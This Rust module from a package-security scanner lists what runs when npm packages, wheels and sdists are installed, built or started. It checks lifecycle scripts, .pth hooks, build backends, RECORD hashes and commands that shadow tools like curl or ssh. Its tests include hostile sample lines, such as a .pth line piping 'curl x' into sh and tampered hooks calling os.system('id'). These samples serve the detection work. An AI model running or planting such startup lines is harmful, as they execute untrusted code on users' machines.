//! The install surface: everything in an artifact that runs when it is
//! installed, built, or when Python starts, each item with the file (and
//! line) it comes from.
//!
//! npm runs `preinstall`, `install` and `postinstall` (and `node-gyp
//! rebuild` when a `binding.gyp` has no install script), for bundled
//! dependencies too. pip runs an sdist's `setup.py` or build backend when it
//! builds it. A wheel runs nothing at install, but its `.pth` lines that
//! start with `import` and a `sitecustomize.py` run at every interpreter
//! start. Commands (`bin`, entry points) run when invoked, and are listed
//! because one that shadows `pip` or `node` runs instead of the real one.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

use regex::Regex;
use serde::Serialize;

use crate::read::{Archive, Entry, Format};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum ArtifactKind {
    NpmPackage,
    Wheel,
    Sdist,
    Unknown,
}

/// When an item's code runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, serde::Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Runs {
    /// During `npm install` / `pip install`.
    Install,
    /// When pip builds the sdist (before it installs anything).
    Build,
    /// At every start of the Python interpreter.
    Startup,
    /// Only for git, file or tarball sources (npm `prepare`).
    SourceInstall,
    /// When someone runs the command.
    Command,
    /// When the package is loaded (`require`, `import`) or its command
    /// run: the runtime surface.
    Import,
    /// When the application imports this module of the package, which its
    /// entry points do not load: the rest of the runtime surface.
    Module,
    /// Not code: a fact about the artifact (its RECORD, its files).
    Never,
}

impl Runs {
    /// Whether it runs when the package, or one of its modules, is loaded
    /// (the runtime surface), not at install, build or start-up.
    pub fn on_load(self) -> bool {
        matches!(self, Self::Import | Self::Module)
    }
}

/// One thing on the install surface.
#[derive(Debug, Clone, Serialize)]
pub struct Item {
    /// Stable kebab-case code.
    pub kind: &'static str,
    pub file: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub line: Option<u32>,
    pub detail: String,
    pub runs: Runs,
    /// A well-known legitimate form recognised by its content (setuptools'
    /// `distutils-precedence.pth`, namespace packages, editable installs).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub known: Option<&'static str>,
}

/// Text the content rules read: a surface file, a script command, inline code.
#[derive(Debug, Clone, Serialize)]
pub struct SurfaceText {
    pub path: String,
    pub runs: Runs,
    #[serde(skip)]
    pub text: String,
}

#[derive(Debug, Clone, Serialize)]
pub struct Surface {
    pub kind: ArtifactKind,
    pub name: Option<String>,
    pub version: Option<String>,
    pub items: Vec<Item>,
    #[serde(skip)]
    pub texts: Vec<SurfaceText>,
    /// npm: lifecycle script name -> command.
    pub scripts: BTreeMap<String, String>,
    /// npm: name -> range (dependencies and optionalDependencies);
    /// Python: requirement -> "" (from `Requires-Dist`).
    pub dependencies: BTreeMap<String, String>,
    /// The walk of the code that runs on load stopped at its bounds with
    /// more to read: what it read is a part.
    pub runtime_partial: bool,
}

impl Surface {
    /// Whether anything runs at install, build or start-up time.
    pub fn runs_code(&self) -> bool {
        self.items
            .iter()
            .any(|i| matches!(i.runs, Runs::Install | Runs::Build | Runs::Startup))
    }
}

/// Commands a package must not install under its own name: whoever runs
/// them afterwards runs the package instead.
/// (package, command) pairs where the package is where the command comes
/// from: npm has installed `npx` since npm 5.2; yarn installs `yarnpkg`.
const COMPANION_COMMANDS: &[(&str, &str)] = &[("npm", "npx"), ("yarn", "yarnpkg")];

pub const SHADOWED_COMMANDS: &[&str] = &[
    "pip",
    "pip3",
    "python",
    "python3",
    "node",
    "npm",
    "npx",
    "yarn",
    "pnpm",
    "corepack",
    "ls",
    "cp",
    "mv",
    "rm",
    "cat",
    "sudo",
    "su",
    "git",
    "ssh",
    "scp",
    "curl",
    "wget",
    "bash",
    "sh",
    "zsh",
    "env",
    "which",
    "docker",
    "kubectl",
    "aws",
    "gcloud",
    "az",
    "gh",
    "make",
    "gcc",
    "cc",
    "cargo",
    "rustc",
    "go",
    "java",
    "uv",
    "poetry",
    "pipx",
    "twine",
    "virtualenv",
    "conda",
];

/// Reads the surface of an archive. `hint` names the kind when the caller
/// knows it (the registry it came from); otherwise it is recognised from
/// the files.
pub fn surface(archive: &Archive, hint: Option<ArtifactKind>) -> Surface {
    let files = Files::new(archive);
    let kind = hint.unwrap_or_else(|| files.kind(archive.format));
    let mut s = Surface {
        kind,
        name: None,
        version: None,
        items: Vec::new(),
        texts: Vec::new(),
        scripts: BTreeMap::new(),
        dependencies: BTreeMap::new(),
        runtime_partial: false,
    };
    match kind {
        ArtifactKind::NpmPackage => npm(&files, &mut s),
        ArtifactKind::Wheel => {
            wheel(&files, &mut s);
            crate::runtime::python(&files, true, &mut s);
        }
        ArtifactKind::Sdist => {
            sdist(&files, &mut s);
            crate::runtime::python(&files, false, &mut s);
        }
        ArtifactKind::Unknown => {}
    }
    native_binaries(&files, &mut s);
    s
}

/// The archive's files keyed by path below the top directory that tar
/// formats wrap everything in (`package/`, `name-1.0/`).
pub(crate) struct Files<'a> {
    pub(crate) by_path: BTreeMap<String, &'a Entry>,
}

impl<'a> Files<'a> {
    fn new(archive: &'a Archive) -> Self {
        let strip = archive.format != Format::Zip || {
            // sdists may be zips with a top directory too.
            !archive
                .entries
                .iter()
                .any(|e| e.path.contains(".dist-info/"))
        };
        let prefix = if strip {
            common_top(&archive.entries)
        } else {
            None
        };
        let by_path = archive
            .entries
            .iter()
            .map(|e| {
                let p = match &prefix {
                    Some(top) => e.path[top.len() + 1..].to_owned(),
                    None => e.path.clone(),
                };
                (p, e)
            })
            .collect();
        Self { by_path }
    }

    pub(crate) fn get(&self, path: &str) -> Option<&'a Entry> {
        self.by_path.get(path).copied()
    }

    pub(crate) fn text(&self, path: &str) -> Option<&'a str> {
        self.get(path)?.text()
    }

    fn kind(&self, format: Format) -> ArtifactKind {
        let has = |p: &str| self.by_path.contains_key(p);
        if self.by_path.keys().any(|p| p.ends_with(".dist-info/WHEEL")) {
            ArtifactKind::Wheel
        } else if has("PKG-INFO") || has("setup.py") || has("pyproject.toml") {
            ArtifactKind::Sdist
        } else if has("package.json") && format != Format::Zip {
            ArtifactKind::NpmPackage
        } else {
            ArtifactKind::Unknown
        }
    }
}

fn common_top(entries: &[Entry]) -> Option<String> {
    let first = entries.first()?.path.split('/').next()?.to_owned();
    entries
        .iter()
        .all(|e| e.path.starts_with(&first) && e.path[first.len()..].starts_with('/'))
        .then_some(first)
}

fn item(kind: &'static str, file: &str, line: Option<u32>, detail: String, runs: Runs) -> Item {
    Item {
        kind,
        file: file.to_owned(),
        line,
        detail,
        runs,
        known: None,
    }
}

fn string_map(v: &serde_json::Value) -> BTreeMap<String, String> {
    v.as_object()
        .map(|o| {
            o.iter()
                .filter_map(|(k, v)| Some((k.clone(), v.as_str()?.to_owned())))
                .collect()
        })
        .unwrap_or_default()
}

fn npm(files: &Files<'_>, s: &mut Surface) {
    let Some(manifest) = files
        .text("package.json")
        .and_then(|t| serde_json::from_str::<serde_json::Value>(t).ok())
        .filter(serde_json::Value::is_object)
    else {
        s.items.push(item(
            "manifest-unreadable",
            "package.json",
            None,
            "package.json is missing or not a JSON object: what npm would run cannot be known"
                .into(),
            Runs::Install,
        ));
        return;
    };
    s.name = manifest["name"].as_str().map(str::to_owned);
    s.version = manifest["version"].as_str().map(str::to_owned);
    s.dependencies = string_map(&manifest["dependencies"]);
    s.dependencies
        .extend(string_map(&manifest["optionalDependencies"]));
    npm_scripts(files, "", &manifest, s);
    crate::runtime::npm(files, &manifest, s);

    match &manifest["bin"] {
        serde_json::Value::String(path) => {
            let name = s.name.clone().unwrap_or_default();
            let name = name.rsplit('/').next().unwrap_or(&name).to_owned();
            bin_item(&name, path, "package.json", s);
        }
        serde_json::Value::Object(map) => {
            for (name, path) in map {
                if let Some(path) = path.as_str() {
                    bin_item(name, path, "package.json", s);
                }
            }
        }
        _ => {}
    }

    // Bundled dependencies install from the tarball itself, scripts and all.
    let bundled: BTreeSet<String> = files
        .by_path
        .keys()
        .filter_map(|p| {
            let rest = p.strip_prefix("node_modules/")?;
            let (dir, tail) = rest.split_once('/')?;
            if dir.starts_with('@') {
                let (name, tail) = tail.split_once('/')?;
                (tail == "package.json").then(|| format!("{dir}/{name}"))
            } else {
                (tail == "package.json").then(|| dir.to_owned())
            }
        })
        .collect();
    for name in bundled {
        let base = format!("node_modules/{name}/");
        s.items.push(item(
            "bundled-dependency",
            &format!("{base}package.json"),
            None,
            format!(
                "`{name}` ships inside the tarball and is installed from it, not from the registry"
            ),
            Runs::Never,
        ));
        if let Some(m) = files
            .text(&format!("{base}package.json"))
            .and_then(|t| serde_json::from_str::<serde_json::Value>(t).ok())
        {
            npm_scripts(files, &base, &m, s);
        }
    }
}

fn bin_item(name: &str, path: &str, file: &str, s: &mut Surface) {
    let shadows = SHADOWED_COMMANDS.contains(&name) && !own_command(name, s.name.as_deref());
    s.items.push(item(
        if shadows {
            "bin-shadows-command"
        } else {
            "bin"
        },
        file,
        None,
        if shadows {
            format!("command `{name}` -> `{path}` shadows the common command `{name}`")
        } else {
            format!("command `{name}` -> `{path}`")
        },
        Runs::Command,
    ));
}

fn npm_scripts(files: &Files<'_>, base: &str, manifest: &serde_json::Value, s: &mut Surface) {
    let scripts = string_map(&manifest["scripts"]);
    let manifest_path = format!("{base}package.json");
    for (name, runs) in [
        ("preinstall", Runs::Install),
        ("install", Runs::Install),
        ("postinstall", Runs::Install),
        ("prepare", Runs::SourceInstall),
    ] {
        let Some(command) = scripts.get(name) else {
            continue;
        };
        if base.is_empty() {
            s.scripts.insert(name.to_owned(), command.clone());
        }
        s.items.push(item(
            "install-script",
            &manifest_path,
            None,
            format!("`{name}`: {command}"),
            runs,
        ));
        s.texts.push(SurfaceText {
            path: format!("{manifest_path}#scripts.{name}"),
            runs,
            text: command.clone(),
        });
        script_targets(files, base, command, runs, s);
    }
    let gyp = format!("{base}binding.gyp");
    let explicit_install = scripts.contains_key("install") || scripts.contains_key("preinstall");
    if files.get(&gyp).is_some() && !explicit_install {
        s.items.push(item(
            "implicit-gyp-build",
            &gyp,
            None,
            "binding.gyp without an install script: npm runs `node-gyp rebuild`, compiling and running native build steps".into(),
            Runs::Install,
        ));
        if let Some(text) = files.text(&gyp) {
            s.texts.push(SurfaceText {
                path: gyp.clone(),
                runs: Runs::Install,
                text: text.to_owned(),
            });
        }
    }
}

pub(crate) static LOCAL_IMPORT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:require\s*\(\s*|from\s+|import\s*\(\s*|import\s+)['"](\.{1,2}/[^'"]+)['"]"#)
        .unwrap_or_else(|_| unreachable!())
});

/// Finds the files a script command runs, and the local modules they load.
fn script_targets(files: &Files<'_>, base: &str, command: &str, runs: Runs, s: &mut Surface) {
    let mut queue: Vec<(String, u32)> = Vec::new();
    for segment in command.split(['&', ';', '|']) {
        let tokens = shell_words(segment);
        let mut tokens = tokens
            .iter()
            .skip_while(|t| {
                t.contains('=') && !t.starts_with('-')
                    || t.as_str() == "cross-env"
                    || t.as_str() == "exec"
            })
            .map(String::as_str);
        let Some(program) = tokens.next() else {
            continue;
        };
        let program_name = program.rsplit('/').next().unwrap_or(program);
        let interpreters = [
            "node", "nodejs", "bun", "deno", "sh", "bash", "zsh", "python", "python3", "tsx",
            "ts-node",
        ];
        if interpreters.contains(&program_name) {
            let mut rest = tokens.peekable();
            while let Some(arg) = rest.next() {
                match arg {
                    "-e" | "--eval" | "-p" | "--print" | "-c" => {
                        if let Some(code) = rest.next() {
                            s.items.push(item(
                                "inline-code",
                                &format!("{base}package.json"),
                                None,
                                format!(
                                    "`{program_name} {arg}` runs code written in the script itself"
                                ),
                                runs,
                            ));
                            s.texts.push(SurfaceText {
                                path: format!("{base}package.json#inline"),
                                runs,
                                text: code.to_owned(),
                            });
                        }
                        break;
                    }
                    "run" if program_name == "deno" || program_name == "bun" => continue,
                    a if a.starts_with('-') => continue,
                    file => {
                        queue.push((file.to_owned(), 0));
                        break;
                    }
                }
            }
        } else if program.starts_with("./")
            || [".sh", ".js", ".cjs", ".mjs", ".py"]
                .iter()
                .any(|e| program.ends_with(e))
        {
            queue.push((program.to_owned(), 0));
        }
    }
    let mut seen = BTreeSet::new();
    while let Some((target, depth)) = queue.pop() {
        if seen.len() >= 64 {
            break;
        }
        let Some(path) = resolve(files, base, &target) else {
            continue;
        };
        if !seen.insert(path.clone()) {
            continue;
        }
        // `require('./package.json')` reads data; it runs nothing.
        if path.ends_with(".json") {
            continue;
        }
        s.items.push(item(
            "script-file",
            &path,
            None,
            format!("run at install time (from `{target}`)"),
            runs,
        ));
        let Some(text) = files.text(&path) else {
            continue;
        };
        s.texts.push(SurfaceText {
            path: path.clone(),
            runs,
            text: text.to_owned(),
        });
        if depth < 3 {
            let dir = path.rsplit_once('/').map_or("", |(d, _)| d);
            for cap in LOCAL_IMPORT.captures_iter(text) {
                let joined = if dir.is_empty() {
                    cap[1].to_owned()
                } else {
                    format!("{dir}/{}", &cap[1])
                };
                queue.push((joined, depth + 1));
            }
        }
    }
}

/// Resolves a script's file argument inside the package, the way Node
/// resolves a path (`x`, `x.js`, `x/index.js`).
pub(crate) fn resolve(files: &Files<'_>, base: &str, target: &str) -> Option<String> {
    let mut parts: Vec<&str> = base
        .trim_end_matches('/')
        .split('/')
        .filter(|p| !p.is_empty())
        .collect();
    let floor = parts.len();
    for part in target.split('/') {
        match part {
            "" | "." => {}
            ".." if parts.len() > floor => {
                parts.pop();
            }
            ".." => return None,
            p => parts.push(p),
        }
    }
    let path = parts.join("/");
    [
        path.clone(),
        format!("{path}.js"),
        format!("{path}.cjs"),
        format!("{path}.mjs"),
        format!("{path}/index.js"),
    ]
    .into_iter()
    .find(|p| files.get(p).is_some())
}

/// Splits a shell command into words, honouring simple quotes.
fn shell_words(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quote: Option<char> = None;
    let mut any = false;
    for c in s.chars() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), c) => cur.push(c),
            (None, '\'' | '"') => {
                quote = Some(c);
                any = true;
            }
            (None, c) if c.is_whitespace() => {
                if any || !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                    any = false;
                }
            }
            (None, c) => cur.push(c),
        }
    }
    if any || !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// coverage.py's start-up hook, in the forms its releases have shipped: it
/// only imports coverage when the environment asks for it.
static COVERAGE_PTH: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"^(import coverage; ?coverage\.process_startup\(\)"#,
        r#"|import sys; exec\('import os\\n\\nif os\.getenv\("COVERAGE_PROCESS_START"\)"#,
        r#"( or os\.getenv\("COVERAGE_PROCESS_CONFIG"\))?:\\n try:\\n  import coverage\\n"#,
        r#" except:\\n  pass\\n else:\\n  coverage\.process_startup\((slug="pth")?\)'\))$"#,
    ))
    .unwrap_or_else(|_| unreachable!())
});

/// coloredlogs' start-up hook (15.0.1, the form its releases ship): it
/// installs coloredlogs' log handler only when `COLOREDLOGS_AUTO_INSTALL`
/// is set, and does nothing when coloredlogs is gone.
const COLOREDLOGS_PTH: &str = r#"import os; exec('try: __import__("coloredlogs").auto_install() if os.environ.get("COLOREDLOGS_AUTO_INSTALL") else None\nexcept ImportError: pass')"#;

/// Whether a command named `command` is simply the package's own command
/// (`pip` and `pip3` from pip, `virtualenv` from virtualenv): not shadowing.
fn own_command(command: &str, package: Option<&str>) -> bool {
    let Some(package) = package else { return false };
    let norm = |s: &str| s.to_ascii_lowercase().replace(['_', '.'], "-");
    let package = norm(package.rsplit('/').next().unwrap_or(package));
    let command = norm(command);
    // Commands a tool has always shipped beside its own name.
    if COMPANION_COMMANDS.contains(&(package.as_str(), command.as_str())) {
        return true;
    }
    let base = command.trim_end_matches(|c: char| c.is_ascii_digit() || c == '-');
    command == package || base == package
}

/// Recognises the legitimate `.pth` start-up hooks that ship with common
/// tools, by content.
pub fn known_pth(path: &str, line: &str) -> Option<&'static str> {
    let name = path.rsplit('/').next().unwrap_or(path);
    let l = line.trim();
    if name == "distutils-precedence.pth"
        && l.contains("_distutils_hack")
        && l.contains("SETUPTOOLS_USE_DISTUTILS")
    {
        Some("setuptools-distutils-precedence")
    } else if name.ends_with("-nspkg.pth") && l.starts_with("import sys, types, os") {
        Some("namespace-package")
    } else if name.starts_with("__editable__")
        && Regex::new(
            r"^import __editable___[\w]+_finder; __editable___[\w]+_finder\.install\(.*\)$",
        )
        .is_ok_and(|r| r.is_match(l))
    {
        Some("editable-finder")
    } else if COVERAGE_PTH.is_match(l) {
        Some("coverage-startup")
    } else if name == "coloredlogs.pth" && l == COLOREDLOGS_PTH {
        Some("coloredlogs-auto-install")
    } else {
        None
    }
}

fn wheel(files: &Files<'_>, s: &mut Surface) {
    let dist_info = files
        .by_path
        .keys()
        .find_map(|p| {
            p.strip_suffix("/WHEEL")
                .filter(|d| d.ends_with(".dist-info") && !d.contains('/'))
        })
        .map(str::to_owned);
    if let Some(meta) = dist_info
        .as_ref()
        .and_then(|d| files.text(&format!("{d}/METADATA")))
    {
        core_metadata(meta, s);
    }
    for (path, entry) in &files.by_path {
        // What lands in site-packages: the root, or a `.data/purelib|platlib` dir.
        let site_path = match path.split_once(".data/") {
            Some((_, rest)) if rest.starts_with("purelib/") || rest.starts_with("platlib/") => {
                rest.split_once('/').map_or("", |(_, p)| p)
            }
            Some((_, rest)) if rest.starts_with("scripts/") => {
                s.items.push(item(
                    "data-script",
                    path,
                    None,
                    "installed into the environment's scripts directory".into(),
                    Runs::Command,
                ));
                if let Some(text) = entry.text() {
                    s.texts.push(SurfaceText {
                        path: path.clone(),
                        runs: Runs::Command,
                        text: text.to_owned(),
                    });
                }
                continue;
            }
            Some(_) => continue,
            None => path.as_str(),
        };
        let top_level = !site_path.contains('/');
        if top_level && site_path.ends_with(".pth") {
            pth(path, entry, s);
        } else if top_level && (site_path == "sitecustomize.py" || site_path == "usercustomize.py")
        {
            let kind = if site_path == "sitecustomize.py" {
                "sitecustomize"
            } else {
                "usercustomize"
            };
            s.items.push(item(
                kind,
                path,
                None,
                format!("`{site_path}` runs at every interpreter start"),
                Runs::Startup,
            ));
            if let Some(text) = entry.text() {
                s.texts.push(SurfaceText {
                    path: path.clone(),
                    runs: Runs::Startup,
                    text: text.to_owned(),
                });
            }
        } else if [".so", ".pyd", ".dylib"]
            .iter()
            .any(|e| site_path.ends_with(e))
            || site_path.contains(".so.")
        {
            s.items.push(item(
                "native-extension",
                path,
                None,
                "compiled extension module, loaded on import".into(),
                Runs::Never,
            ));
        }
    }
    if let Some(d) = &dist_info {
        if let Some(ep) = files.text(&format!("{d}/entry_points.txt")) {
            entry_points(&format!("{d}/entry_points.txt"), ep, s);
        }
        record(files, d, s);
    }
}

fn pth(path: &str, entry: &Entry, s: &mut Surface) {
    let Some(text) = entry.text() else {
        s.items.push(item(
            "pth-unreadable",
            path,
            None,
            "a .pth file that is not UTF-8 text".into(),
            Runs::Startup,
        ));
        return;
    };
    let mut code_lines = 0;
    for (i, line) in text.lines().enumerate() {
        // site.py executes lines that start with `import` + space or tab.
        if line.starts_with("import ") || line.starts_with("import\t") {
            code_lines += 1;
            let known = known_pth(path, line);
            s.items.push(Item {
                known,
                ..item(
                    "pth-code",
                    path,
                    Some(i as u32 + 1),
                    format!("runs at every interpreter start: {}", excerpt(line)),
                    Runs::Startup,
                )
            });
        }
    }
    if code_lines > 0 {
        // The whole file, so findings carry the real line numbers.
        s.texts.push(SurfaceText {
            path: path.to_owned(),
            runs: Runs::Startup,
            text: text.to_owned(),
        });
    } else {
        s.items.push(item(
            "pth-path",
            path,
            None,
            "adds directories to sys.path; runs no code".into(),
            Runs::Never,
        ));
    }
}

fn entry_points(file: &str, text: &str, s: &mut Surface) {
    let mut section = String::new();
    for (i, line) in text.lines().enumerate() {
        let line = line.trim();
        if line.starts_with('[') && line.ends_with(']') {
            section = line[1..line.len() - 1].trim().to_owned();
            continue;
        }
        if section != "console_scripts" && section != "gui_scripts" {
            continue;
        }
        let Some((name, target)) = line.split_once('=') else {
            continue;
        };
        let (name, target) = (name.trim(), target.trim());
        let shadows = SHADOWED_COMMANDS.contains(&name) && !own_command(name, s.name.as_deref());
        s.items.push(item(
            if shadows {
                "entry-point-shadows-command"
            } else {
                "entry-point"
            },
            file,
            Some(i as u32 + 1),
            if shadows {
                format!("command `{name}` -> `{target}` shadows the common command `{name}`")
            } else {
                format!("command `{name}` -> `{target}`")
            },
            Runs::Command,
        ));
    }
}

fn record(files: &Files<'_>, dist_info: &str, s: &mut Surface) {
    use base64::Engine;
    let record_path = format!("{dist_info}/RECORD");
    let Some(text) = files.text(&record_path) else {
        s.items.push(item(
            "record-absent",
            &record_path,
            None,
            "the wheel has no RECORD: its files cannot be checked".into(),
            Runs::Never,
        ));
        return;
    };
    let mut listed: BTreeMap<String, String> = BTreeMap::new();
    for line in text.lines() {
        let fields = csv_fields(line);
        if let (Some(p), Some(h)) = (fields.first(), fields.get(1)) {
            listed.insert(p.clone(), h.clone());
        }
    }
    for (path, entry) in &files.by_path {
        let own = [
            record_path.clone(),
            format!("{dist_info}/RECORD.jws"),
            format!("{dist_info}/RECORD.p7s"),
        ];
        if own.contains(path) {
            continue;
        }
        match listed.get(path) {
            None => s.items.push(item(
                "record-missing",
                path,
                None,
                "the file is not listed in RECORD".into(),
                Runs::Never,
            )),
            Some(h) if h.is_empty() => {}
            Some(h) => {
                let Some(digest) = entry.sha256 else { continue };
                let actual = format!(
                    "sha256={}",
                    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(digest)
                );
                if !h.starts_with("sha256=") {
                    continue;
                }
                if *h != actual {
                    s.items.push(item(
                        "record-mismatch",
                        path,
                        None,
                        format!("RECORD says `{h}`, the file is `{actual}`"),
                        Runs::Never,
                    ));
                }
            }
        }
    }
}

/// One CSV line (RECORD), with double-quoted fields.
fn csv_fields(line: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                cur.push('"');
                chars.next();
            }
            '"' => quoted = !quoted,
            ',' if !quoted => out.push(std::mem::take(&mut cur)),
            c => cur.push(c),
        }
    }
    out.push(cur);
    out
}

static CMDCLASS: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\bcmdclass\s*=").unwrap_or_else(|_| unreachable!()));

/// Name, version and requirements from core metadata (`METADATA`,
/// `PKG-INFO`): the headers, up to the blank line before the description.
fn core_metadata(meta: &str, s: &mut Surface) {
    for line in meta.lines() {
        if let Some(v) = line.strip_prefix("Name: ") {
            s.name = Some(v.trim().to_owned());
        } else if let Some(v) = line.strip_prefix("Version: ") {
            s.version = Some(v.trim().to_owned());
        } else if let Some(v) = line.strip_prefix("Requires-Dist: ") {
            s.dependencies.insert(v.trim().to_owned(), String::new());
        } else if line.is_empty() {
            break;
        }
    }
}

fn sdist(files: &Files<'_>, s: &mut Surface) {
    if let Some(meta) = files.text("PKG-INFO") {
        core_metadata(meta, s);
    }
    if files.get("setup.py").is_some() {
        s.items.push(item(
            "setup-py",
            "setup.py",
            None,
            "runs when pip builds the sdist".into(),
            Runs::Build,
        ));
        if let Some(text) = files.text("setup.py") {
            for (i, line) in text.lines().enumerate() {
                if CMDCLASS.is_match(line) {
                    s.items.push(item(
                        "setup-cmdclass",
                        "setup.py",
                        Some(i as u32 + 1),
                        format!("custom build commands: {}", excerpt(line)),
                        Runs::Build,
                    ));
                }
            }
            s.texts.push(SurfaceText {
                path: "setup.py".into(),
                runs: Runs::Build,
                text: text.to_owned(),
            });
        }
    }
    if files.get("setup.cfg").is_some() {
        s.items.push(item(
            "setup-cfg",
            "setup.cfg",
            None,
            "declarative setuptools configuration".into(),
            Runs::Never,
        ));
    }
    let Some(pyproject) = files.text("pyproject.toml") else {
        return;
    };
    let Ok(doc) = pyproject.parse::<toml::Table>() else {
        s.items.push(item(
            "pyproject-unreadable",
            "pyproject.toml",
            None,
            "not valid TOML: what pip would build with cannot be known".into(),
            Runs::Build,
        ));
        return;
    };
    let Some(bs) = doc.get("build-system").and_then(toml::Value::as_table) else {
        return;
    };
    let strings = |key: &str| -> Vec<String> {
        bs.get(key)
            .and_then(toml::Value::as_array)
            .map(|a| {
                a.iter()
                    .filter_map(|v| v.as_str().map(str::to_owned))
                    .collect()
            })
            .unwrap_or_default()
    };
    let requires = strings("requires");
    let backend = bs
        .get("build-backend")
        .and_then(toml::Value::as_str)
        .unwrap_or("setuptools.build_meta:__legacy__");
    s.items.push(item(
        "build-backend",
        "pyproject.toml",
        None,
        format!(
            "pip builds with `{backend}`, after installing [{}]",
            requires.join(", ")
        ),
        Runs::Build,
    ));
    for r in &requires {
        s.dependencies.insert(format!("{r} (build)"), String::new());
    }
    let paths = strings("backend-path");
    if !paths.is_empty() {
        let module = backend
            .split(':')
            .next()
            .unwrap_or(backend)
            .replace('.', "/");
        for dir in &paths {
            let dir = dir.trim_start_matches("./").trim_matches('/');
            let prefix = if dir.is_empty() || dir == "." {
                String::new()
            } else {
                format!("{dir}/")
            };
            for path in [
                format!("{prefix}{module}.py"),
                format!("{prefix}{module}/__init__.py"),
            ] {
                if let Some(text) = files.text(&path) {
                    s.items.push(item(
                        "in-tree-backend",
                        &path,
                        None,
                        format!(
                            "build backend shipped inside the sdist (`backend-path = {paths:?}`)"
                        ),
                        Runs::Build,
                    ));
                    s.texts.push(SurfaceText {
                        path: path.clone(),
                        runs: Runs::Build,
                        text: text.to_owned(),
                    });
                    break;
                }
            }
        }
    }
}

/// Native executables, by their magic bytes.
fn native_binaries(files: &Files<'_>, s: &mut Surface) {
    for (path, entry) in &files.by_path {
        let h = &entry.head;
        let format = if h.starts_with(b"\x7fELF") {
            "ELF"
        } else if h.starts_with(b"MZ") && !path.ends_with(".txt") {
            "PE"
        } else if h.starts_with(&[0xfe, 0xed, 0xfa, 0xce])
            || h.starts_with(&[0xfe, 0xed, 0xfa, 0xcf])
            || h.starts_with(&[0xce, 0xfa, 0xed, 0xfe])
            || h.starts_with(&[0xcf, 0xfa, 0xed, 0xfe])
            || (h.starts_with(&[0xca, 0xfe, 0xba, 0xbe]) && !path.ends_with(".class"))
        {
            "Mach-O"
        } else {
            continue;
        };
        s.items.push(item(
            "native-binary",
            path,
            None,
            format!("{format} executable or library ({} bytes)", entry.size),
            Runs::Never,
        ));
    }
}

/// A line shortened for display.
pub fn excerpt(line: &str) -> String {
    let line = line.trim();
    if line.chars().count() <= 160 {
        line.to_owned()
    } else {
        format!("{}…", line.chars().take(160).collect::<String>())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_and_quotes() {
        assert_eq!(
            shell_words(r#"node -e "require('x')" && sh ./a.sh"#),
            ["node", "-e", "require('x')", "&&", "sh", "./a.sh"]
        );
        assert_eq!(shell_words("  a  ''  b "), ["a", "", "b"]);
    }

    #[test]
    fn known_pth_forms() {
        assert_eq!(
            known_pth(
                "distutils-precedence.pth",
                "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); "
            ),
            Some("setuptools-distutils-precedence")
        );
        assert_eq!(
            known_pth(
                "__editable__.demo-1.0.pth",
                "import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()"
            ),
            Some("editable-finder")
        );
        assert_eq!(
            known_pth("evil.pth", "import os; os.system('curl x | sh')"),
            None
        );
        let coverage = r#"import sys; exec('import os\n\nif os.getenv("COVERAGE_PROCESS_START") or os.getenv("COVERAGE_PROCESS_CONFIG"):\n try:\n  import coverage\n except:\n  pass\n else:\n  coverage.process_startup(slug="pth")')"#;
        assert_eq!(
            known_pth("a1_coverage.pth", coverage),
            Some("coverage-startup")
        );
        let coloredlogs = r#"import os; exec('try: __import__("coloredlogs").auto_install() if os.environ.get("COLOREDLOGS_AUTO_INSTALL") else None\nexcept ImportError: pass')"#;
        assert_eq!(
            known_pth("coloredlogs.pth", coloredlogs),
            Some("coloredlogs-auto-install")
        );
        // The same text under another name, or changed, is not it.
        assert_eq!(known_pth("other.pth", coloredlogs), None);
        let changed = coloredlogs.replace(
            "auto_install()",
            "auto_install(); __import__('os').system('id')",
        );
        assert_eq!(known_pth("coloredlogs.pth", &changed), None);
        let tampered = coverage.replace("import coverage", "import os; os.system('id')");
        assert_eq!(known_pth("a1_coverage.pth", &tampered), None);
        // The right name with other code is not the known hook.
        assert_eq!(
            known_pth("distutils-precedence.pth", "import os; os.system('id')"),
            None
        );
    }

    #[test]
    fn a_package_may_install_its_own_command() {
        assert!(own_command("pip", Some("pip")));
        assert!(own_command("pip3", Some("pip")));
        assert!(own_command("pip3.11", Some("pip")));
        assert!(own_command("virtualenv", Some("virtualenv")));
        assert!(!own_command("pip", Some("pip-helper")));
        assert!(!own_command("pip", None));
        assert!(
            own_command("npx", Some("npm")),
            "npm has shipped npx since 5.2"
        );
        assert!(!own_command("npx", Some("npm-helper")));
        assert!(!own_command("npm", Some("npx")));
        assert!(own_command("npm", Some("npm")));
    }

    #[test]
    fn csv_quotes() {
        assert_eq!(
            csv_fields(r#""a,b.py",sha256=x,3"#),
            ["a,b.py", "sha256=x", "3"]
        );
    }
}
